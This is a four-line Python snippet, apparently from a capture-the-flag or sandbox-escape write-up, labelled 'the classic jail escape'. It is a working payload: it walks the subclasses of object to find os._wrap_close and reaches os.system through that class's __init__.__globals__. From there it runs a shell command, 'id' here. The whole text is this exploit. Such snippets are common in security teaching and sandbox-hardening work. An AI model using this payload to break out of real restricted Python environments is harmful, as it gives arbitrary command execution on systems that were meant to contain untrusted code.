# The classic jail escape: find a class whose module imported os.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("id")
